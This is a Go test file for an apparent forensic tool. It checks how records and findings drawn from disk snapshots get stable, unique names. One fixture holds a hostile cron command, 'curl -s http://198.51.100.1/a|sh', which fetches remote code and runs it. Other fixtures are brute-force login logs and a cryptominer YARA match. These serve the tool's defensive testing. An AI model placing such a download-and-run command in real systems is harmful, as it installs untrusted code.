package model

import (
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"
)

// contained says that a host is a container in these tests.
func contained(host string) bool { return host == "h9" }

func named(r Record) string {
	list := []Record{r}
	NumberRecords(list, contained)
	return list[0].Name
}

// TestStableNames: what is the same fact in the next snapshot, and what is another.
func TestStableNames(t *testing.T) {
	moment := time.Date(2026, 1, 12, 8, 58, 31, 0, time.UTC)
	job := Record{
		Kind: CronJob, Times: []Stamp{{What: "changed", Time: moment}},
		Source: Source{Image: "i1", Host: "h1", Volume: "p1", Path: "/etc/cron.d/x", Inode: 7, Line: 3, Offset: 40, Length: 20, DiskOffset: 4096, SHA256: "aa"},
	}
	job.Add("schedule", "@daily")
	job.Add("description", "once a day")
	job.AddInt("runs_per_day", 1)
	job.Add("command", "curl -s http://198.51.100.1/a|sh")
	job.AddList("environment", []string{"A=1", "B=2"})
	job.AddList("traits", []string{"pipe_to_shell"})

	script := Record{Kind: CronScript, Source: Source{Volume: "p1", Path: "/etc/cron.daily/x", SHA256: "aa", DiskOffset: -1}}
	script.Add("period", "daily")
	script.Add("interpreter", "/bin/sh")
	script.AddList("urls", []string{"http://198.51.100.1/a"})
	unread := script
	unread.Source.SHA256 = ""

	guessing := Record{Kind: AuthFailures, Source: Source{Volume: "p1", Path: "/var/log/auth.log", Line: 9, SHA256: "aa"}, Times: []Stamp{{What: "first", Time: moment}, {What: "last", Time: moment.Add(time.Hour)}}}
	guessing.Add("address", "203.0.113.77")
	guessing.AddInt("count", 640)
	guessing.AddList("users", []string{"root", "admin"})

	match := Record{Kind: YARAMatch, Source: Source{Volume: "p1", Path: "/tmp/x", SHA256: "aa", State: Orphan}}
	match.Add("rule", "XMRig_Binary")
	match.Add("level", "critical")
	match.AddList("strings", []string{"$a at 5"})

	entry := Record{Kind: AuthSudo, Source: Source{Volume: "p1", Path: "/var/log/journal/00ff/system.journal"}, Times: []Stamp{{What: "logged", Time: moment}}}
	entry.Add("command", "/bin/sh")
	coverage := Record{Kind: LogCoverage, Source: Source{Volume: "p1", Path: "/var/log/auth.log"}}

	field := func(name string, value any) func(*Record) {
		return func(r *Record) {
			r.Fields = append(Fields{}, r.Fields...)
			for i := range r.Fields {
				if r.Fields[i].Name == name {
					r.Fields = append(r.Fields[:i], r.Fields[i+1:]...)
					break
				}
			}
			switch v := value.(type) {
			case string:
				r.Add(name, v)
			case int:
				r.AddInt(name, int64(v))
			case []string:
				r.AddList(name, v)
			}
		}
	}
	at := func(what string, t time.Time) func(*Record) {
		return func(r *Record) {
			r.Times = append([]Stamp{}, r.Times...)
			for i := range r.Times {
				if r.Times[i].What == what {
					r.Times[i].Time = t
				}
			}
		}
	}
	path := func(p string) func(*Record) { return func(r *Record) { r.Source.Path = p } }
	for _, tt := range []struct {
		name   string
		r      Record
		change func(*Record)
		same   bool
	}{
		{"nothing", job, func(*Record) {}, true},
		{"another place", job, func(r *Record) {
			r.Source.Inode, r.Source.Line, r.Source.Offset, r.Source.Length, r.Source.DiskOffset, r.Source.SHA256 = 8, 4, 60, 21, 8192, "bb"
		}, true},
		{"another image, host and volume", job, func(r *Record) { r.Source.Image, r.Source.Host, r.Source.Volume = "i2", "h2", "vg0-root" }, true},
		{"another version of the inode", job, func(r *Record) { r.Source.Version = 12 }, true},
		{"the file was written again", job, at("changed", moment.Add(time.Hour)), true},
		{"a count", job, field("runs_per_day", 2), true},
		{"the schedule in other words", job, field("description", "daily"), true},
		{"a trait that a later version sees", job, field("traits", []string{"pipe_to_shell", "fetch"}), true},
		{"another command", job, field("command", "true"), false},
		{"another schedule", job, field("schedule", "@hourly"), false},
		{"one field less", job, field("schedule", ""), false},
		{"another item of a list", job, field("environment", []string{"A=1", "B=3"}), false},
		{"the items of a list in another order", job, field("environment", []string{"B=2", "A=1"}), false},
		{"one item in place of two", job, field("environment", []string{"A=1,B=2"}), false},
		{"another path", job, path("/etc/cron.d/y"), false},
		{"deleted since", job, func(r *Record) { r.Source.State = Deleted }, false},
		{"in an archive", job, func(r *Record) { r.Source.Member = "etc/cron.d/x" }, false},
		{"another kind", job, func(r *Record) { r.Kind = AtJob }, false},
		{"in a container", job, func(r *Record) {
			r.Source.Host, r.Source.Path, r.Source.HostPath = "h9", "/var/lib/docker/overlay2/0a/diff/etc/cron.d/x", "/etc/cron.d/x"
		}, false},
		{"on a volume of its own", job, func(r *Record) { r.Source.Path, r.Source.HostPath = "/cron.d/x", "/etc/cron.d/x" }, true},
		{"a crontab beside one that was rotated by hand", job, path("/etc/cron.d/x.1"), false},

		{"the script was edited", script, func(r *Record) { r.Source.SHA256 = "bb" }, false},
		{"what a later version sees in the same script", script, field("urls", []string{"http://198.51.100.1/b"}), true},
		{"a script without hash was edited", unread, field("urls", []string{"http://198.51.100.1/b"}), false},

		{"the series went on", guessing, field("count", 900), true},
		{"other names were tried", guessing, field("users", []string{"root"}), true},
		{"the series ended later", guessing, at("last", moment.Add(2*time.Hour)), true},
		{"another series", guessing, at("first", moment.Add(time.Second)), false},
		{"of another address", guessing, field("address", "203.0.113.78"), false},
		{"the log grew", guessing, func(r *Record) { r.Source.SHA256 = "bb" }, true},
		{"the log was rotated", guessing, path("/var/log/auth.log.1"), true},
		{"and packed", guessing, func(r *Record) { r.Source.Path, r.Source.Member = "/var/log/auth.log.2.gz", "gzip" }, true},
		{"by date", guessing, path("/var/log/auth.log-20260118"), true},
		{"by date, and packed", guessing, path("/var/log/auth.log-20260118-1768000000.xz"), true},
		{"and deleted", guessing, func(r *Record) { r.Source.State = Deleted }, true},
		{"in another log", guessing, path("/var/log/secure"), false},
		{"in another directory", guessing, path("/var/log/old/auth.log"), false},
		{"the journal was archived", entry, path("/var/log/journal/00ff/system@0005f0-00000000000a-0006.journal"), true},
		{"and put aside as damaged", entry, path("/var/log/journal/00ff/system@0005f0-0006.journal~"), true},
		{"in the journal of a user", entry, path("/var/log/journal/00ff/user-1000@0005f0-0006.journal"), false},
		{"the next log", coverage, path("/var/log/auth.log.1"), false},

		{"the level that a rule states", match, field("level", "high"), true},
		{"where the strings stand", match, field("strings", []string{"$a at 6"}), true},
		{"another program at the same path", match, func(r *Record) { r.Source.SHA256 = "bb" }, false},
		{"the program ended", match, func(r *Record) { r.Source.State = Deleted }, false},
	} {
		other := tt.r
		tt.change(&other)
		if a, b := named(tt.r), named(other); (a == b) != tt.same {
			t.Errorf("%s: %s and %s, want the same: %t", tt.name, a, b, tt.same)
		}
	}

	in := func(dir string) Record { r := job; r.Source.Path = dir + "/etc/cron.d/x"; return r }
	contained := func(dir string) Record {
		r := in(dir)
		r.Source.Host, r.Source.HostPath = "h9", "/etc/cron.d/x"
		return r
	}
	if a, b := named(contained("/var/lib/docker/overlay2/0a/diff")), named(contained("/var/lib/docker/overlay2/0b/diff")); a != b {
		t.Errorf("the fact has another name in the next container of the image: %s, %s", a, b)
	}
	if a, b := named(job), named(in("/mnt")); a == b {
		t.Errorf("a copy beside the host's own file has its name: %s", a)
	}
}

// TestNamesDiffer: no two facts share a name, whatever they hold.
func TestNamesDiffer(t *testing.T) {
	list := make([]Record, 0, 64)
	add := func(path string, fields ...string) {
		r := Record{Kind: "x.y", Source: Source{Path: path}}
		for i := 0; i < len(fields); i += 2 {
			r.AddList(fields[i], strings.Split(fields[i+1], "+"))
		}
		list = append(list, r)
	}
	add("/a", "b", "c")
	add("/a", "b", "c")
	add("/a", "b", "c")
	add("/ab", "c", "x")
	add("/a", "b", "c+d+e")
	add("/a", "b", "c", "d", "e")
	add("/a", "b", "c:d")
	add("/a", "b", "1:c")
	add("/a1:b", "c", "x")
	NumberRecords(list, nil)
	seen := make(map[string]bool)
	for i, r := range list {
		if seen[r.Name] || r.ID != fmt.Sprintf("R-%06d", i+1) {
			t.Errorf("%s %s: %v", r.ID, r.Name, r.Fields)
		}
		seen[r.Name] = true
	}
	first := list[0].Name
	if list[1].Name != first+"~2" || list[2].Name != first+"~3" || strings.Contains(list[3].Name, "~") || strings.Contains(list[5].Name, "~") {
		t.Errorf("%s, %s, %s, %s, %s", first, list[1].Name, list[2].Name, list[3].Name, list[5].Name)
	}
}

// TestFindingNames: a finding is named by its rule and the fact it is about, wherever the
// fact stands among its equals.
func TestFindingNames(t *testing.T) {
	records := map[string]*Record{"R-000001": {Name: "cron.job-0a"}, "R-000002": {Name: "cron.job-0a~2"}, "R-000003": {Name: "cron.job-0b"}}
	get := func(list ...Finding) []Finding {
		NumberFindings(list, func(id string) *Record { return records[id] })
		return list
	}
	about := func(rule string, ids ...string) Finding { return Finding{Rule: rule, Records: ids} }
	list := get(about("a", "R-000001"), about("a", "R-000002"), about("a", "R-000003"), about("b", "R-000001"), about("a"), about("a", "R-000009"))
	for i, f := range list {
		if f.ID != fmt.Sprintf("F-%04d", i+1) {
			t.Errorf("number %d is %s", i+1, f.ID)
		}
		for _, g := range list[:i] {
			if f.Name == g.Name {
				t.Errorf("%s and %s are both named %s", g.ID, f.ID, f.Name)
			}
		}
	}
	if list[1].Name != list[0].Name+"~2" || list[5].Name != list[4].Name+"~2" {
		t.Errorf("%v", list)
	}
	if again := get(about("a", "R-000001", "R-000003"), about("c")); again[0].Name != list[0].Name {
		t.Errorf("with one more record of proof the finding has the name %s, not %s", again[0].Name, list[0].Name)
	}
	nameRE := regexp.MustCompile(`^[A-Za-z0-9_.-]+-[0-9a-f]{16}$`)
	long := get(about("\x1b[2J ../x é~2" + strings.Repeat("y", 100)))[0].Name
	if !nameRE.MatchString(long) || len(long) > 90 {
		t.Errorf("%q", long)
	}
	if a, b := get(about("a b"))[0].Name, get(about("a_b"))[0].Name; a == b {
		t.Errorf("two rules share the name %s", a)
	}
}
